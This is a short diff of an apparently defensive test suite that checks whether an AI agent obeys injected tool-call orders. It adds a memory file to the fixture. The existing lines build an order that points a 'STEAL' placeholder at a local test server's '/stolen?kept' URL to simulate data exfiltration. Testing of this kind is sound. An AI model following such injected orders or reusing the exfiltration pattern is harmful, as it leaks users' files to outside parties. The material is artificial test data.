@@ -264,6 +264,8 @@ describe('an obedient model that reads orders', () => {
       const [home, work] = [join(base, 'own'), join(base, 'work')]
       for (const folder of [home, work]) mkdirSync(folder)
       writeFileSync(join(work, 'kept.txt'), 'kept')
+      mkdirSync(join(home, 'memory'))
+      writeFileSync(join(home, 'memory/me.md'), '- a\n')
       let order = ''
       const site = await web('')
       order = JSON.stringify({ name: tool, args }).replace('STEAL', `${site.url}/stolen?kept`)
